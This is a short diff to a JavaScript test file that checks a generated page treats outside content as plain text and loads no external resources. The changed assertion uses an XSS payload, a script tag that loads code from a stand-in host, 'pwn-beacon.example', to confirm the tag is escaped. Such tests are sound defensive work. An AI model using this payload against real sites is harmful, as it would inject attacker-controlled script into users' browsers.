@@ -20,7 +20,7 @@ it('nothing that others wrote gets in as anything but text, and nothing is loade
   expect(page.querySelectorAll('style')).toHaveLength(1);
   expect(page.querySelector('style')!.textContent).not.toMatch(/url|@import/);
   expect(page.querySelector('meta[http-equiv]')!.getAttribute('content')).toContain("default-src 'none'");
-  expect(page.body.textContent).toContain('<script>window.PWN=1</script>');
+  expect(page.body.textContent).toContain('<SCRIPT/XSS SRC="https://pwn-beacon.example/xss.js"></SCRIPT>');
 });
 
 it('says what the page says: sentences, formulas, intervals, rows with their words', () => {
